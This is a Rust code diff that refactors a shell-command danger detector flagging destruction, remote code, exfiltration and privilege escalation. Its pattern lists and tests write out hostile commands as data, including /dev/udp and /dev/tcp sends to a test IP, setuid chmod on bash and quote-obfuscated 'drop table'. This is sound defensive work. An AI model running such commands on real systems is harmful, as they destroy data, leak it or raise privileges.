@@ -1,7 +1,11 @@
 //! Quotes arguments for a shell, and names what makes a command dangerous.
 
+mod words;
+
 use std::borrow::Cow;
 use std::collections::HashSet;
+
+use self::words::{BORDERS, HIDDEN_BORDERS, name_of, names, parts, parts_of, program, split};
 
 /// Why a command should not run unseen.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
@@ -64,76 +68,15 @@ struct Texts {
 
 /// A command in lower case, and its words.
 struct Command<'t> {
-    flat: &'t str,
-    plain: &'t str,
-    words: Vec<&'t str>,
-    /// The words in their own letters: `curl -F` sends a file, and `curl -f` does not.
-    cased: Vec<&'t str>,
-    /// Which of [`NAMES`] are words, or the last parts of words, as bits.
+    texts: &'t Texts,
+    words: Vec<&'t [u8]>,
+    /// Which programs are words, or the last parts of words, as bits.
     names: u64,
+    /// Which pieces of text it holds, as it is written or without quotes, as bits.
+    parts: u64,
+    /// Those that it holds without quotes.
+    plain_parts: u64,
 }
-
-/// Programs that matter.
-const NAMES: [&str; 36] = [
-    "rm",
-    "xargs",
-    "dd",
-    "find",
-    "shred",
-    "wipefs",
-    "blkdiscard",
-    "tee",
-    "cp",
-    "sh",
-    "bash",
-    "zsh",
-    "dash",
-    "python",
-    "python3",
-    "perl",
-    "ruby",
-    "node",
-    "curl",
-    "wget",
-    "base32",
-    "xxd",
-    "uudecode",
-    "rev",
-    "openssl",
-    "eval",
-    "nc",
-    "ncat",
-    "socat",
-    "scp",
-    "sudo",
-    "su",
-    "doas",
-    "nsenter",
-    "pkexec",
-    "chmod",
-];
-
-/// The lengths of [`NAMES`]: most words have another one.
-const NAME_LENGTHS: std::ops::RangeInclusive<usize> = 2..=10;
-
-/// The bit of a program, if it is one of those.
-fn bit(name: &str) -> u64 {
-    let known = || NAMES.iter().position(|known| *known == name);
-    let place = NAME_LENGTHS.contains(&name.len()).then(known).flatten();
-    place.map_or(0, |place| 1 << place)
-}
-
-/// What a word runs: the last part of a path.
-fn program(word: &str) -> &str {
-    memchr::memrchr(b'/', word.as_bytes()).map_or(word, |at| &word[at + 1..])
-}
-
-/// What separates words.
-const BORDERS: [char; 9] = [' ', ';', '|', '&', '(', ')', '`', '"', '\''];
-/// What separates them as well where somebody hides them: `{rm,-rf,/}`, or `a=rm; $a -rf /`.
-const HIDDEN_BORDERS: [char; 13] = [
-    ' ', ';', '|', '&', '(', ')', '`', '{', '}', ',', '=', '<', '>',
-];
 
 /// Devices that hold file systems.
 const DISKS: [&str; 6] = [
@@ -147,8 +90,12 @@ const DISKS: [&str; 6] = [
 
 impl Texts {
     fn read(command: &str) -> Self {
-        let joined = command.replace("\\\r\n", "").replace("\\\n", "");
-        let mut single = String::with_capacity(joined.len());
+        let mut single = String::with_capacity(command.len());
+        // A line that ends in a backslash goes on with the next one.
+        let joined = match memchr::memchr(b'\\', command.as_bytes()) {
+            Some(_) => Cow::Owned(command.replace("\\\r\n", "").replace("\\\n", "")),
+            None => Cow::Borrowed(command),
+        };
         for word in joined.split_whitespace() {
             if !single.is_empty() {
                 single.push(' ');
@@ -167,164 +114,197 @@ impl Texts {
 
 impl<'t> Command<'t> {
     fn of(texts: &'t Texts) -> Self {
-        let mut words: Vec<&str> = split(&texts.flat, &BORDERS).collect();
-        words.extend(split(&texts.plain, &HIDDEN_BORDERS));
+        let mut words: Vec<&[u8]> = split(&texts.flat, BORDERS).collect();
+        words.extend(split(&texts.plain, HIDDEN_BORDERS));
         let names = words
             .iter()
-            .fold(0, |names, word| names | bit(program(word)));
+            .fold(0, |names, word| names | name_of(program(word)));
+        let plain_parts = parts_of(&texts.plain);
+        let parts = match texts.flat == texts.plain {
+            true => plain_parts,
+            false => plain_parts | parts_of(&texts.flat),
+        };
         Self {
-            flat: &texts.flat,
-            plain: &texts.plain,
+            texts,
             words,
-            cased: split(&texts.single, &BORDERS).collect(),
             names,
+            parts,
+            plain_parts,
         }
     }
 
-    fn runs(&self, name: &str) -> bool {
-        debug_assert!(
-            bit(name) != 0,
-            "{name} is none of the names that are looked for"
-        );
-        self.names & bit(name) != 0
+    fn runs(&self, names: u64) -> bool {
+        self.names & names != 0
     }
 
-    fn runs_any(&self, names: &[&str]) -> bool {
-        names.iter().any(|name| self.runs(name))
+    fn holds(&self, parts: u64) -> bool {
+        self.parts & parts != 0
     }
 
-    fn holds_any(&self, parts: &[&str]) -> bool {
-        let holds = |text: &str, part: &&str| {
-            memchr::memmem::find(text.as_bytes(), part.as_bytes()).is_some()
-        };
-        let is_quoted = self.flat != self.plain;
-        parts
-            .iter()
-            .any(|part| holds(self.flat, part) || (is_quoted && holds(self.plain, part)))
+    /// The words in their own letters: `curl -F` sends a file, and `curl -f` does not.
+    fn cased(&self) -> impl Iterator<Item = &'t [u8]> {
+        split(&self.texts.single, BORDERS)
     }
 
-    fn has_flag(&self, letters: &[char]) -> bool {
-        let short = |word: &&&str| word.starts_with('-') && !word.starts_with("--");
+    fn has_flag(&self, letters: &[u8]) -> bool {
+        let short = |word: &&&[u8]| word.starts_with(b"-") && !word.starts_with(b"--");
         self.words
             .iter()
             .filter(short)
-            .any(|word| word.contains(letters))
+            .any(|word| word.iter().any(|byte| letters.contains(byte)))
     }
 
     fn destroys(&self) -> bool {
-        let removes = self.has_flag(&['r', 'f'])
-            || self.holds_any(&["--recursive", "--force", "--no-preserve-root", "-exec"])
-            || self.runs("xargs");
-        (self.runs("rm") && removes)
-            || self.words.iter().any(|word| word.starts_with("mkfs"))
-            || (self.runs("dd") && self.holds_any(&["of="]))
-            || (self.runs("find") && self.holds_any(&["-delete"]))
-            || self.runs_any(&["shred", "wipefs", "blkdiscard"])
+        let removes = || {
+            self.has_flag(b"rf")
+                || self.holds(
+                    const { parts(&["--recursive", "--force", "--no-preserve-root", "-exec"]) },
+                )
+                || self.runs(const { names(&["xargs"]) })
+        };
+        (self.runs(const { names(&["rm"]) }) && removes())
+            || self.words.iter().any(|word| word.starts_with(b"mkfs"))
+            || (self.runs(const { names(&["dd"]) }) && self.holds(const { parts(&["of="]) }))
+            || (self.runs(const { names(&["find"]) }) && self.holds(const { parts(&["-delete"]) }))
+            || self.runs(const { names(&["shred", "wipefs", "blkdiscard"]) })
             || self.writes_to_disk()
-            || self.holds_any(&[
-                ":(){",
-                ":() {",
-                "drop table",
-                "drop database",
-                "git push --force",
-                "git push -f",
-            ])
+            || self.holds(
+                const {
+                    parts(&[
+                        ":(){",
+                        ":() {",
+                        "drop table",
+                        "drop database",
+                        "git push --force",
+                        "git push -f",
+                    ])
+                },
+            )
     }
 
     /// Past the file systems.
     fn writes_to_disk(&self) -> bool {
-        let plain = self.plain.replace("> ", ">");
-        let redirects = |disk: &&str| plain.contains(&format!(">{disk}"));
-        let is_disk = |word: &&str| DISKS.iter().any(|disk| word.starts_with(disk));
-        DISKS.iter().any(redirects)
-            || (self.runs_any(&["tee", "cp"]) && self.words.last().is_some_and(is_disk))
+        const REDIRECTS: u64 = parts(&[
+            ">/dev/sd",
+            ">/dev/nvme",
+            ">/dev/hd",
+            ">/dev/vd",
+            ">/dev/mmcblk",
+            ">/dev/disk",
+            "> /dev/sd",
+            "> /dev/nvme",
+            "> /dev/hd",
+            "> /dev/vd",
+            "> /dev/mmcblk",
+            "> /dev/disk",
+        ]);
+        let is_disk = |word: &&[u8]| DISKS.iter().any(|disk| word.starts_with(disk.as_bytes()));
+        self.plain_parts & REDIRECTS != 0
+            || (self.runs(const { names(&["tee", "cp"]) })
+                && self.words.last().is_some_and(is_disk))
     }
 
     fn runs_remote_code(&self) -> bool {
-        let shell = self.runs_any(&[
+        const SHELLS: u64 = names(&[
             "sh", "bash", "zsh", "dash", "python", "python3", "perl", "ruby", "node",
         ]);
-        let fetches = self.runs_any(&["curl", "wget"]);
-        let decodes = self.runs_any(&["base32", "xxd", "uudecode", "rev", "openssl"])
-            || self.holds_any(&["\\x", "\\0", "\\1"]);
-        (fetches && shell && self.holds_any(&["|"]))
-            || (fetches && self.holds_any(&["$(", "<(", "`"]))
+        let shell = self.runs(SHELLS);
+        let fetches = self.runs(FETCHERS);
+        let decodes = || {
+            self.runs(const { names(&["base32", "xxd", "uudecode", "rev", "openssl"]) })
+                || self.holds(const { parts(&["\\x", "\\0", "\\1"]) })
+        };
+        (fetches && shell && self.holds(const { parts(&["|"]) }))
+            || (fetches && self.holds(SUBSTITUTES))
             || (fetches && self.runs_what_it_wrote())
-            || (self.holds_any(&["base64"]) && shell)
-            || (decodes && self.pipes_into_shell())
-            || self.runs("eval")
-            || self.holds_any(&["-c exec(", "pty.spawn("])
+            || (self.holds(const { parts(&["base64"]) }) && shell)
+            || (self.holds(const { parts(&["|"]) }) && decodes() && self.pipes_into_shell())
+            || self.runs(const { names(&["eval"]) })
+            || self.holds(const { parts(&["-c exec(", "pty.spawn("]) })
     }
 
     /// Whether a file that a download is named after is run: `wget URL/a.sh && sh a.sh`.
     fn runs_what_it_wrote(&self) -> bool {
         let pairs = || self.words.windows(2).map(|pair| (pair[0], pair[1]));
-        let fetched: HashSet<&str> = pairs()
+        let names_a_host = |word: &[u8]| memchr::memmem::find(word, b"://").is_some();
+        let fetched: HashSet<&[u8]> = pairs()
             .filter(|(flag, word)| {
-                matches!(*flag, "-o" | "--output" | "-qo") || word.contains("://")
+                matches!(*flag, b"-o" | b"--output" | b"-qo") || names_a_host(word)
             })
             .map(|(_, word)| program(word))
             .filter(|name| !name.is_empty())
             .collect();
-        let runs = |(shell, word): (&str, &str)| {
-            let is_shell = matches!(shell, "sh" | "bash" | "zsh" | "dash" | "source" | ".");
-            let is_run = |name: &str| fetched.contains(name);
-            (is_shell && is_run(program(word))) || word.strip_prefix("./").is_some_and(is_run)
+        let runs = |(shell, word): (&[u8], &[u8])| {
+            let is_shell = matches!(shell, b"sh" | b"bash" | b"zsh" | b"dash" | b"source" | b".");
+            let is_run = |name: &[u8]| fetched.contains(name);
+            (is_shell && is_run(program(word))) || word.strip_prefix(b"./").is_some_and(is_run)
         };
         pairs().any(runs)
     }
 
     fn pipes_into_shell(&self) -> bool {
-        let targets = self.plain.split('|').skip(1);
-        let first = targets.filter_map(|target| target.split_whitespace().next());
-        let shell = |word: &str| ["sh", "bash", "zsh", "dash"].contains(&program(word));
-        first.into_iter().any(shell)
+        let targets = self.texts.plain.split('|').skip(1);
+        let mut first = targets.filter_map(|target| target.split_whitespace().next());
+        let shells = const { names(&["sh", "bash", "zsh", "dash"]) };
+        first.any(|word| name_of(program(word.as_bytes())) & shells != 0)
     }
 
     fn exfiltrates(&self) -> bool {
-        self.holds_any(&["/dev/tcp/", "/dev/udp/"])
-            || (self.runs_any(&["nc", "ncat", "socat"]) && self.words.len() > 1)
-            || (self.runs_any(&["curl", "wget"]) && self.uploads())
-            || (self.runs("scp") && self.holds_any(&[":"]))
+        self.holds(const { parts(&["/dev/tcp/", "/dev/udp/"]) })
+            || (self.runs(const { names(&["nc", "ncat", "socat"]) }) && self.words.len() > 1)
+            || (self.runs(FETCHERS) && self.uploads())
+            || (self.runs(const { names(&["scp"]) }) && self.holds(const { parts(&[":"]) }))
     }
 
     /// Whether `curl` or `wget` sends a file, or what a command says; words that stand there are no secret.
     fn uploads(&self) -> bool {
-        let sends = |word: &&str| {
-            matches!(*word, "-F" | "-T" | "--form" | "--upload-file")
-                || word.starts_with("-F")
-                || word.starts_with("-T@")
-                || ["--post-file", "--body-file", "--upload-file=", "--form="]
-                    .iter()
-                    .any(|flag| word.starts_with(flag))
+        let sends = |word: &[u8]| {
+            let begins = [
+                &b"-F"[..],
+                b"-T@",
+                b"--post-file",
+                b"--body-file",
+                b"--upload-file=",
+                b"--form=",
+            ];
+            matches!(word, b"-T" | b"--form" | b"--upload-file")
+                || begins.iter().any(|flag| word.starts_with(flag))
         };
-        let takes = |word: &&str| word.starts_with("-d") || word.starts_with("--data");
-        let names_a_file =
-            |word: &&str| word.starts_with('@') || word.contains("=@") || word.starts_with("-d@");
-        let says = self.cased.iter().any(names_a_file) || self.holds_any(&["$(", "`", "<("]);
-        self.cased.iter().any(sends) || (self.cased.iter().any(takes) && says)
+        let takes = |word: &[u8]| word.starts_with(b"-d") || word.starts_with(b"--data");
+        let names_a_file = |word: &[u8]| {
+            word.starts_with(b"@")
+                || word.starts_with(b"-d@")
+                || memchr::memmem::find(word, b"=@").is_some()
+        };
+        let says = || self.cased().any(names_a_file) || self.holds(SUBSTITUTES);
+        self.cased().any(sends) || (self.cased().any(takes) && says())
     }
 
     fn raises_privileges(&self) -> bool {
-        let sets_id = |word: &&str| {
-            let digits = word.len() == 4 && word.bytes().all(|byte| byte.is_ascii_digit());
-            digits && word.starts_with(['2', '4', '6'])
+        let sets_id = |word: &&[u8]| {
+            let digits = word.len() == 4 && word.iter().all(u8::is_ascii_digit);
+            digits && matches!(word[0], b'2' | b'4' | b'6')
         };
-        self.runs_any(&["sudo", "su", "doas", "nsenter", "pkexec"])
-            || (self.runs("chmod")
-                && (self.holds_any(&["777", "+s"]) || self.words.iter().any(sets_id)))
-            || self.holds_any(&[
-                "/etc/shadow",
-                "/etc/sudoers",
-                "authorized_keys",
-                "ld_preload=",
-            ])
+        self.runs(const { names(&["sudo", "su", "doas", "nsenter", "pkexec"]) })
+            || (self.runs(const { names(&["chmod"]) })
+                && (self.holds(const { parts(&["777", "+s"]) }) || self.words.iter().any(sets_id)))
+            || self.holds(
+                const {
+                    parts(&[
+                        "/etc/shadow",
+                        "/etc/sudoers",
+                        "authorized_keys",
+                        "ld_preload=",
+                    ])
+                },
+            )
     }
 }
 
-fn split<'t>(text: &'t str, borders: &'t [char]) -> impl Iterator<Item = &'t str> {
-    text.split(borders).filter(|word| !word.is_empty())
-}
+/// Programs that fetch.
+const FETCHERS: u64 = names(&["curl", "wget"]);
+/// What puts what a command says into another.
+const SUBSTITUTES: u64 = parts(&["$(", "<(", "`"]);
 
 /// A command without quotes, escapes and empty expansions: what the shell reads of `r\m`, `r''m`, `r$@m` and
 /// `rm${IFS}-rf`.
@@ -332,11 +312,13 @@ fn without_quoting(flat: &str) -> String {
     if !flat.contains(['\'', '"', '\\', '$', '`']) {
         return flat.to_owned();
     }
-    let spaced = flat.replace("${ifs}", " ").replace("$ifs", " ");
-    let quoted = ["$@", "$*", "${@}", "${*}", "$()", "``"];
-    let mut plain = quoted
-        .iter()
-        .fold(spaced, |text, nothing| text.replace(nothing, ""));
+    let mut plain = flat.to_owned();
+    if flat.contains(['$', '`']) {
+        plain = plain.replace("${ifs}", " ").replace("$ifs", " ");
+        for nothing in ["$@", "$*", "${@}", "${*}", "$()", "``"] {
+            plain = plain.replace(nothing, "");
+        }
+    }
     plain.retain(|letter| !matches!(letter, '\'' | '"' | '\\'));
     plain
 }
@@ -345,11 +327,13 @@ fn without_quoting(flat: &str) -> String {
 pub fn dangers(command: &str) -> Vec<Danger> {
     let texts = Texts::read(command);
     let read = Command::of(&texts);
-    let joins = [";", "&&", "|", "`", "$(", "<(", "\0"];
+    let joins = const { parts(&["&&", "|", "`", "$(", "<("]) };
+    // Neither is taken away with quotes.
+    let is_cut = || memchr::memchr2(b';', 0, texts.flat.as_bytes()).is_some();
     [
         (
             Danger::Composition,
-            read.holds_any(&joins) || command.trim().contains('\n'),
+            read.holds(joins) || is_cut() || command.trim().contains('\n'),
         ),
         (Danger::Destruction, read.destroys()),
         (Danger::RemoteCode, read.runs_remote_code()),
@@ -423,6 +407,8 @@ mod tests {
             ("exec 3<>/dev/udp/192.0.2.1/53", Danger::Exfiltration),
             ("chmod 4755 /bin/bash", Danger::Privilege),
             ("pkexec id", Danger::Privilege),
+            ("cat x > /dev/t\\cp/192.0.2.1/80", Danger::Exfiltration),
+            ("dr''op table t", Danger::Destruction),
         ] {
             assert!(dangers(command).contains(&danger), "{command}");
         }
@@ -440,6 +426,7 @@ mod tests {
             "echo 'it\\'s' | tr a b",
             "find . -name '*.rs' | xargs grep unwrap",
             "cp a.img /dev/shm/a.img",
+            "curl https://a.example/ ; sh scripts/",
         ] {
             let mut told = dangers(harmless);
             told.retain(|danger| *danger != Danger::Composition);
